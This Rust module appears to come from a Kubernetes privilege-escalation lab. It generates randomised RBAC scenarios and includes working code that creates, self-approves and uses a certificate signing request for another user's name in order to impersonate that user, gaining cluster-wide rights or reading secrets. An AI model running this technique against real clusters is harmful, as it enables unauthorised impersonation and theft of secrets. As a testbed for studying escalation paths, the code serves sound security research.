//! Certificates: a request for anybody's name, approved and signed.

use std::fs;

use base64::Engine as _;
use base64::prelude::BASE64_STANDARD;
use serde_json::json;

use super::lab::{Goal, Hand, Lab, State, Twist, World, binding, everything, grant, openssl, role, user};
use crate::server::Call;

const REQUESTS: &str = "/apis/certificates.k8s.io/v1/certificatesigningrequests";
const SIGNER: &str = "kubernetes.io/kube-apiserver-client";

fn victor(world: &World) -> String {
    format!("victor-{}", world.id)
}

fn name(world: &World) -> String {
    format!("{}-csr", world.id)
}

/// Makes the request, approves it and uses the certificate, each by whoever may.
pub(crate) async fn round(lab: &Lab, world: &World, state: &mut State) {
    let (victor, name, folder) = (victor(world), name(world), &lab.server.folder);
    if state.is(&user(&victor)) {
        return;
    }
    // The key is the lab's own: it is the certificate that says who shows it.
    let file = format!("{name}.pem");
    openssl(folder, &format!("req -new -key lab-ca.key -subj /CN={victor} -out {file}"));
    let pem = fs::read(folder.join(&file)).unwrap();
    let spec = json!({"request": BASE64_STANDARD.encode(pem), "signerName": SIGNER, "usages": ["client auth"]});
    let meta = json!({"name": name});
    let kind = json!({"apiVersion": "certificates.k8s.io/v1", "kind": "CertificateSigningRequest"});
    let request = json!({"apiVersion": kind["apiVersion"], "kind": kind["kind"], "metadata": meta, "spec": spec});
    let path = format!("{REQUESTS}/{name}");
    for hand in state.hands.clone() {
        if !hand.may(Call::post(REQUESTS, request.clone())).await {
            hand.may(Call::apply(format!("{path}?fieldManager=attacker"), request.clone())).await;
        }
    }
    let approval = format!("{path}/approval");
    let condition = json!({"conditions": [{"type": "Approved", "status": "True", "reason": "Attack"}]});
    let approved = json!({"apiVersion": kind["apiVersion"], "kind": kind["kind"], "metadata": meta, "spec": spec, "status": condition});
    for hand in state.hands.clone() {
        if hand.may(Call::patch(&approval, json!({"status": condition}))).await
            || hand.may(Call::put(&approval, approved.clone())).await
        {
            lab.until("the certificate is signed", || async {
                let reply = lab.admin(Call::get(&path)).await;
                reply.body["status"]["certificate"].as_str().map(|_| ())
            })
            .await;
        }
    }
    for hand in state.hands.clone() {
        if let Some(certificate) = read(&hand, &path, &approved).await {
            let new = lab.hand_of_certificate(user(&victor), &certificate, &folder.join("lab-ca.key"));
            if new.whoami().await.is_some_and(|said| said[0] == victor) {
                state.hands.push(new);
                return;
            }
        }
    }
}

/// The certificate as whoever may look at the request, or approve it once more, sees it.
async fn read(hand: &Hand, path: &str, approved: &serde_json::Value) -> Option<String> {
    let approval = format!("{path}/approval");
    for call in [Call::get(path), Call::patch(&approval, json!({})), Call::put(&approval, approved.clone())] {
        let reply = hand.call(call).await;
        if let Some(certificate) = reply.body["status"]["certificate"].as_str() {
            return Some(certificate.to_owned());
        }
    }
    None
}

/// What the rights of the attacker are good for.
pub(crate) fn expected(world: &World, goal: &Goal) -> bool {
    let own = world.own();
    let name = name(world);
    let requests = |verb: &str, sub: &str, name: &str| {
        format!("{verb} certificatesigningrequests{sub}.certificates.k8s.io {name}")
    };
    let makes = own.iter().any(|own| {
        world.may(own, "", requests("create", "", "").trim_end())
            || (world.may(own, "", &requests("create", "", &name)) && world.may(own, "", &requests("patch", "", &name)))
    });
    let approves = own.iter().any(|own| {
        ["update", "patch"].iter().any(|verb| world.may(own, "", &requests(verb, "/approval", &name)))
            && [SIGNER, "kubernetes.io/*"]
                .iter()
                .any(|signer| world.may(own, "", &format!("approve signers.certificates.k8s.io {signer}")))
    });
    let worth =
        |role: &str| world.objects.iter().any(|object| object["metadata"]["name"] == format!("{}-{role}", world.id));
    makes
        && approves
        && match goal {
            Goal::User(_) => true,
            Goal::Cluster => worth("big"),
            Goal::Secrets(_) => true,
            other => panic!("nobody wants {other:?}"),
        }
}

/// What `csr-approve` is made from.
pub(crate) fn csr_approve(world: &mut World) {
    let (id, b, victor) = (world.id.clone(), world.b.clone(), victor(world));
    if world.dice.percent(50) {
        world.objects.push(role("", &format!("{id}-big"), everything()));
        world.objects.push(binding("", &format!("{id}-big"), (false, &format!("{id}-big")), vec![user(&victor)]));
    } else {
        let rules = json!([{"verbs": ["list"], "apiGroups": [""], "resources": ["secrets"]}]);
        world.objects.push(role(&b, &format!("{id}-read"), rules));
        world.objects.push(binding(&b, &format!("{id}-read"), (true, &format!("{id}-read")), vec![user(&victor)]));
    }
    world.goals = vec![Goal::User(victor), Goal::Cluster, Goal::Secrets(b)];
    world.names = vec![name(world), SIGNER.to_owned(), "kubernetes.io/*".to_owned(), "*".to_owned()];
    world.avoid = &[Twist::EveryResource];
    let (create, verb) = (*world.dice.pick(&["create", "create,get"]), *world.dice.pick(&["patch", "update"]));
    let group = "certificates.k8s.io";
    world.grant(vec![
        grant("", &format!("{create} certificatesigningrequests.{group}")),
        grant("", &format!("{verb} certificatesigningrequests/approval.{group}")),
        grant("", &format!("approve signers.{group}")),
    ]);
}
